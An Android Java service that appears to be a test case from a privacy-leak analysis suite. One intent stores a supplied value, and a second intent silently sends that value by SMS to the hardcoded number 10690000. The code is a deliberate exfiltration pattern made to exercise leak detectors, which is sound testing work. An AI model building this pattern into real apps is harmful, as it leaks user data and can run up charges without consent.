package cn.privlens.suite.set_then_send;

import android.app.Service;
import android.content.Intent;
import android.os.IBinder;
import android.telephony.SmsManager;

public class Gate extends Service {
    private String first = "";
    private String second = "";
    @Override
    public int onStartCommand(Intent intent, int flags, int startId) {
        String word = intent.getStringExtra("word");
        if ("set".equals(word)) {
            first = intent.getStringExtra("value");
        } else if ("send".equals(word)) {
            SmsManager.getDefault().sendTextMessage("10690000", null, first, null, null);
            second = "sent";
        }
        return START_NOT_STICKY;
    }
    @Override
    public IBinder onBind(Intent intent) { return null; }
}
